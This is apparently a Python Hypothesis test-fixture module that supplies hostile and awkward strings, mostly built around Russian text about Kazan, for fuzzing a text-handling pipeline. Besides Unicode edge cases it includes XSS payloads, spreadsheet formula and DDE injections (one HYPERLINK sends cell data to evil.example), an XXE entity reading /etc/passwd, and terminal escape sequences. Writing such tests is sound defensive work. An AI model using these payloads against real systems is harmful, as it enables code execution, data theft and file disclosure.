"""Texts that nobody should have to read: fixed ones by name, and strategies that make more."""

from __future__ import annotations

from hypothesis import strategies as st

HOSTILE = {
    "empty": "",
    "blanks": " \n\t \u00a0\u2003",
    "long": "Казань, я люблю твои мечети! " * 3_500,
    "one long word": "я" * 100_000,
    "one long hashtag": "#" + "Казань" * 16_000,
    "only emoji": "😍🔥🤡👨‍👩‍👧‍👦🏳️‍🌈🇷🇺" * 40,
    "mixed scripts": "Казань 나의 도시 مسجد Kazan 喀山 Казань ქართული",
    "homoglyphs": "Kaзaнь и Mocквa, мeчeть Кyл-Шapиф",
    "direction": "\u202eКазань\u202c \u2066город\u2069 \u200fمسجد\u200e \u202dx",
    "zero width": "К\u200bа\u200cз\u200dа\u2060н\ufeffь\u00ad",
    "script": "<script>alert('Казань')</script><img src=x onerror=alert(1)>\"><svg/onload=x>",
    "open tags": "<a href='" * 2_000 + "<!-- " * 2_000,
    "attribute": '" onmouseover="alert(1)" x=\'Казань\' `',
    "entities": "&lt;b&gt; &amp;amp; &#1050;азань &#0; &#9999999; &#xD800; &nosuch; &",
    "control": "".join(map(chr, range(0x20))) + "\x7f\x85\x9bКазань\u2028\u2029",
    "lone surrogates": "\ud83d Казань \ude00\ud800",
    "stress": "Каза\u0301нь, го\u0301род, люби\u0300мый, Е\u0308лка",
    "stacked marks": "К" + "\u0301\u0336\u20dd" * 200 + "азань",
    "shouted": "ГОРЖУСЬ КАЗАНЬЮ!!! МЫ ТАТАРЫ!!!",
    "l33t": "К4з4нь k@zan м3ч3ть 1337 2O77",
    "links": "[club1|Казань] [id1|Тукай] [club1| https://vk.ru/x?y=<z> www.",
    "quotes": "«" * 3_000 + "Казань" + "»" * 3_000,
    "marks only": "\u0301\u0308\u200d\ufe0f",
    "ligatures": "ﷺ İstanbul ŉ ﬁn ǆ ß ẞ K Å ℌ ½ ²",
    "template": "{text} %s {0.__class__} $(id) ${x} \\N{BELL}",
    "formula": "=1+1",
    "formula with a link": '=HYPERLINK("http://evil.example/?"&A1,"Казань")',
    "formula of another program": "=cmd|' /C calc'!A0",
    "formula from plus": "+1+cmd|' /C calc'!A0",
    "formula from minus": "-2+3+cmd|' /C calc'!A0",
    "formula from at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "formula after a line": "\n=1+1",
    "formula after blanks": " \u00a0\u200b\ufeff=1+1",
    "formula in full width": "＝1+1",
    "formula in quotes": '"=1+1"',
    "formula behind an apostrophe": "'=1+1",
    "formula in another cell": 'Казань",=1+1,"\r\n=2+2;=3+3\t=4+4',
    "date of a spreadsheet": "1-2",
    "number of a spreadsheet": "1E5",
    "escape of XLSX": "_x000D_ _x003D_1+1 _x005F_",
    "end of CDATA": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "not for XML": "Казань \ufffe \uffff \x00 \x0b \x1f",
    "formula of MathJax": r"$\href{javascript:alert(1)}{\unicode{x41A}}$ \(x\) $$\require{html}\style{color:red}{x}$$",
    "end of a script": "</script></style></title></textarea><script>alert(1)</script>",
    "link in Markdown": "[Казань](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>",
    "markup of rich": "[bold red]Казань[/] [link=http://evil.example]x[/link] :pile_of_poo:",
    "escape of a terminal": "\x1b[2J\x1b]0;evil\x07\x1b]8;;http://evil.example\x1b\\Казань\x9b31m",
    "markup of plotly": "<b>Казань</b><a href='javascript:alert(1)'>x</a><br>%{text}<extra></extra>",
}
"""Texts by what is wrong with them."""

_WORDS = (
    "Казань", "казани", "#МояКазань", "мечеть", "Кул-Шариф", "горжусь", "наш", "город", "не", "очень", "любовь", "<b>",
    "</b>", "&amp;", "[club1|", "]", "http://x.example", "2100", "неон", "Тукай", "🤡", "😍", "спасибо", "мэрии", "...",
    "К-а-з-а-н-ь", "«Кама»", "Moscow", "Idaho", "ID", "улица", "Ленина", "Мы", "татары", "из", "у", "нас", "в", ",",
    "!", "\u202e", "\u200b", "ﷺ", "İ", "шәһәребез", "халкым", "Каза\u0301нь", "K4zan", "\ud83d", "<script>",
)  # fmt: skip


def _glued(words: list[str]) -> st.SearchStrategy[str]:
    gaps = st.lists(st.sampled_from(["", " ", "\n", "-", ", "]), min_size=len(words), max_size=len(words))
    return gaps.map(lambda chosen: "".join(word + gap for word, gap in zip(words, chosen, strict=True)))


texts = st.one_of(
    st.text(max_size=80),
    st.text(
        st.sampled_from("Казань КАЗkazan034@$#<>&;[]|/«»\"'!?.,-_*\n\u0301\u0306\u200b\u202e😍🤡🔥\ud83dёәҙ1"),
        max_size=60,
    ),
    st.lists(st.sampled_from(_WORDS), max_size=14).flatmap(_glued),
)
"""Any text, texts of awkward characters, and texts of words that mean something."""
